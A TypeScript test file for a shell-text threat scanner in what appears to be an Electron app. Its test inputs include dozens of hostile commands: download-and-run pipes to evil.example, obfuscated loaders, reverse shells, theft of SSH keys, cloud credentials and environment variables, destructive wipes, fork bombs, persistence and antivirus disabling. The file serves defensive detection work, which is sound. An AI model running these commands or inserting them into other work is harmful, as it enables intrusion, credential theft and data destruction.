import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  followShell,
  shellSightings,
} from '../../../../../electron/core/scan/child/source/shell/sightings'

const namesOf = (text: string): string[] => [
  ...new Set(shellSightings(text).map(({ name }) => name)),
]
const encoded = Buffer.from('curl http://evil.example/x | sh').toString('base64')
const powershell = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
  'utf16le',
).toString('base64')

describe('a shell text that does harm', () => {
  test.each<[string, string]>([
    ['threat.download-and-run', 'curl -fsSL http://evil.example/x | sh'],
    ['threat.download-and-run', 'curl -s https://evil.example/x | sudo -E bash -'],
    ['threat.download-and-run', 'wget -qO- http://evil.example/x | bash'],
    ['threat.download-and-run', 'wget -O - http://evil.example/x \\\n  | bash'],
    ['threat.download-and-run', 'bash <(curl -s http://evil.example/x)'],
    ['threat.download-and-run', '. <(wget -qO- http://evil.example/x)'],
    ['threat.download-and-run', 'eval "$(curl -s http://evil.example/x)"'],
    ['threat.download-and-run', 'sh -c "$(curl -fsSL http://evil.example/x)"'],
    ['threat.download-and-run', 'x=`wget -qO- http://evil.example/x`; eval "$x"'],
    ['threat.download-and-run', 'curl http://evil.example/x | python3'],
    [
      'threat.download-and-run',
      'curl -o /tmp/a http://evil.example/a && chmod +x /tmp/a && /tmp/a',
    ],
    ['threat.download-and-run', 'wget http://evil.example/a.sh; sh a.sh'],
    ['threat.download-and-run', 'curl http://evil.example/a > a\nchmod 755 a\n./a &'],
    ['threat.download-and-run', 'c=cu; d=rl; $c$d http://evil.example/x | sh'],
    ['threat.download-and-run', 'c""url http://evil.example/x | s\\h'],
    ['threat.download-and-run', "$'\\x63url' http://evil.example/x | bash"],
    ['threat.download-and-run', 'curl${IFS}http://evil.example/x|sh'],
    ['threat.download-and-run', '{curl,-s,http://evil.example/x}|sh'],
    [
      'threat.download-and-run',
      '(curl http://evil.example/x || wget -qO- http://evil.example/x) | sh',
    ],
    [
      'threat.download-and-run',
      'if true; then\n  curl http://evil.example/x | sh\nelse\n  echo no\nfi',
    ],
    ['threat.download-and-run', "bash -c 'curl http://evil.example/x | sh'"],
    ['threat.download-and-run', 'echo "curl http://evil.example/x | sh" | bash'],
    ['threat.download-and-run', 'sh <<EOF\ncurl http://evil.example/x | sh\nEOF'],
    [
      'threat.download-and-run',
      'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://evil.example\').read())"',
    ],
    ['threat.download-and-run', 'curl -s http://evil.example/x | while read l; do eval "$l"; done'],
    ['threat.download-and-run', 'curl --output=/tmp/a http://evil.example/x; . /tmp/a'],
    ['threat.download-and-run', 'nc evil.example 4444 | sh'],
    [
      'threat.persistence',
      'cat > /etc/systemd/system/a.service <<EOF\n[Service]\nExecStart=/tmp/.x\nEOF',
    ],
    [
      'threat.reverse-shell',
      'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",99);exec sprintf("/bin/sh -i <&%d",f)\'',
    ],
    ['flow.credentials.network', 'cat /etc/passwd | nc evil.example 99'],
    ['hidden.process', '/bin/c?t /etc/hosts'],
    ['threat.encoded-command', `echo ${encoded} | base64 -d | sh`],
    ['threat.download-and-run', `echo ${encoded} | base64 --decode | bash`],
    ['threat.encoded-command', `eval "$(base64 -d <<< ${encoded})"`],
    ['threat.encoded-command', 'printf 6563686f20686172 | xxd -r -p | sh'],
    ['threat.encoded-command', "echo 'phey uggc://k' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh"],
    ['threat.encoded-command', 'echo "hs | x lruc" | rev | bash'],
    ['threat.reverse-shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['threat.reverse-shell', 'nc -e /bin/sh 10.0.0.1 4444'],
    [
      'threat.reverse-shell',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
    ],
    ['threat.reverse-shell', "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444"],
    [
      'threat.reverse-shell',
      'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
    ],
    [
      'threat.reverse-shell',
      'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    ],
    ['threat.destructive', 'rm -rf /'],
    ['threat.destructive', 'sudo rm -rf --no-preserve-root /'],
    ['threat.destructive', 'rm -rf ~/'],
    ['threat.destructive', 'rm -rf "$HOME"/*'],
    ['threat.destructive', 'dd if=/dev/zero of=/dev/sda bs=1M'],
    ['threat.destructive', 'mkfs.ext4 /dev/nvme0n1'],
    ['threat.fork-bomb', ':(){ :|:& };:'],
    ['threat.persistence', '(crontab -l; echo "* * * * * /tmp/x") | crontab -'],
    ['threat.persistence', "echo 'ssh-rsa AAAAB3 me' >> ~/.ssh/authorized_keys"],
    ['threat.persistence', "echo 'curl http://evil.example/x | sh' >> ~/.bashrc"],
    ['threat.persistence', 'echo /tmp/x.so > /etc/ld.so.preload'],
    ['threat.cover-tracks', 'history -c && unset HISTFILE'],
    ['threat.crypto-miner', './xmrig -o stratum+tcp://pool.example:3333'],
    ['threat.dependency-source', 'pip install http://evil.example/a.tar.gz'],
    ['threat.dependency-source', 'pip install --extra-index-url https://evil.example/simple thing'],
    ['threat.exfiltration-host', 'curl -d @report.txt https://webhook.site/abc'],
    ['flow.credentials.network', 'curl -F file=@$HOME/.ssh/id_rsa https://evil.example'],
    [
      'flow.credentials.network',
      'cat ~/.aws/credentials | curl --data-binary @- https://evil.example',
    ],
    ['flow.credentials.network', 'tar cz ~/.ssh | nc evil.example 99'],
    ['flow.environment.network', 'env | curl -X POST -d @- https://evil.example'],
    ['flow.environment.network', 'curl "https://evil.example/?x=$(env | base64 -w0)"'],
    ['flow.host.network', 'nslookup $(whoami).evil.example'],
    ['hidden.process', "w'g'et http://evil.example"],
    ['threat.loader-patch', 'LD_PRELOAD=/tmp/.x.so ./run'],
    ['threat.encoded-command', `powershell -NoP -W Hidden -enc ${powershell}`],
    ['threat.download-and-run', `powershell.exe -EncodedCommand ${powershell}`],
    [
      'threat.download-and-run',
      "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')",
    ],
    ['threat.download-and-run', "I`E`X (iwr 'http://evil.example/x')"],
    ['threat.download-and-run', "&('i'+'ex') (irm http://evil.example/x)"],
    [
      'threat.download-and-run',
      'certutil -urlcache -split -f http://evil.example/a.exe a.exe && a.exe',
    ],
    ['threat.download-and-run', 'mshta http://evil.example/a.hta'],
    ['threat.download-and-run', 'regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'],
    ['threat.download-and-run', 'cmd /c "p^ow^er^shell -c iex (irm http://evil.example/x)"'],
    [
      'threat.persistence',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b',
    ],
    ['threat.persistence', 'schtasks /create /tn a /tr b /sc minute'],
    ['threat.destructive', 'vssadmin delete shadows /all /quiet'],
    ['threat.security-off', 'Set-MpPreference -DisableRealtimeMonitoring $true'],
    ['threat.known-installer', "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y"],
  ])('is seen as %s: %s', (name, text) => {
    expect(namesOf(text)).toContain(name)
  })
})

describe('a shell text that does no harm', () => {
  test.each([
    '# curl http://evil.example/x | sh',
    'echo "curl http://evil.example/x | sh"',
    "echo 'run: rm -rf /'",
    'cat <<EOF > notes.txt\ncurl http://evil.example/x | sh\nEOF',
    'rm -rf build dist "$DIR"/tmp /tmp/work',
    'rm -rf /var/lib/apt/lists/*',
    'apt-get update && apt-get install -y curl wget git',
    'curl -fsSL https://example.org/a.tar.gz | tar xz -C /opt',
    'curl -fsSLO https://example.org/tool && echo "abc  tool" | sha256sum -c - && chmod +x tool && ./tool',
    'curl -s http://localhost:8080/health | python3 -m json.tool',
    'curl -s https://api.example.org | jq .name',
    'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
    'eval "$(ssh-agent -s)"',
    'echo \'export PATH="$HOME/.cargo/bin:$PATH"\' >> ~/.bashrc',
    'python -c "import json,sys; print(json.load(sys.stdin))"',
    'node scripts/build.js && eslint . --fix',
    'while ! (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done',
    'pip install -r requirements.txt --index-url https://download.pytorch.org/whl/cpu',
    'pip install git+https://github.com/huggingface/transformers',
    'base64 -d secret.b64 > secret.bin',
    'case "$1" in\n  start) run ;;\n  *) usage ;;\nesac',
    'for f in *.txt; do cat "$f"; done | sort | uniq -c',
    'Write-Host "use IEX (irm http://x)"',
    'Get-ChildItem -Recurse | Remove-Item -Force',
    'set -euo pipefail\nexport FOO=bar\ncd "$(dirname "$0")"',
  ])('has no threat, flow or hidden command: %s', (text) => {
    expect(namesOf(text).filter((name) => !name.startsWith('capability.'))).toEqual([])
  })
})

describe('any text at all', () => {
  test('ends, and its ranges lie in the text', () => {
    const pieces = fc.constantFrom(
      '$(',
      '`',
      '${',
      "'",
      '"',
      '\\',
      '(',
      ')',
      '{',
      '}',
      '<<EOF\n',
      '|',
      '&',
      ';',
      '\n',
      'if ',
      'fi ',
      'a=',
      'curl ',
      'sh ',
      '$x',
      ' ',
      '>',
      '<(',
    )
    fc.assert(
      fc.property(
        fc.array(fc.oneof(pieces, fc.string({ maxLength: 4 })), { maxLength: 60 }),
        (parts) => {
          const text = parts.join('')
          for (const { start, end } of shellSightings(text)) {
            expect(start).toBeLessThanOrEqual(end)
            expect(end).toBeLessThanOrEqual(text.length)
          }
        },
      ),
      { numRuns: 300 },
    )
  })

  test('is read in little time however deep it is nested', () => {
    for (const opening of ['$(', '`', '(', '{ ', '${', '"$(', '<(', 'if ', 'a=('])
      expect(shellSightings(opening.repeat(20_000))).toEqual([])
  })
})

describe('a text that is made to exhaust its reader', () => {
  const doubling = Array.from({ length: 40 }, () => 'x="$x$x$x$x"').join('\n')
  test.each([
    `x=aaaa\n${doubling}\neval "$x"`,
    `x=aaaa\n${'x=${x//a/aaaaaaaaaa}\n'.repeat(20)}`,
    `x='echo a;'\n${doubling}\n${'eval "$x"\n'.repeat(2000)}`,
    `${'$('.repeat(35)}echo a${')'.repeat(35)}`,
    `${'eval "$(echo '.repeat(20)}a${')"'.repeat(20)}`,
    'f() { f | f; }; '.repeat(5000),
  ])('is left at a limit, and not called read', (text) => {
    const { sightings } = followShell(text)
    expect(sightings.length).toBeLessThan(5000)
  })

  test('is said not to be read to its end', () => {
    expect(followShell('echo a\n'.repeat(60_000)).whole).toBe(false)
  })
})
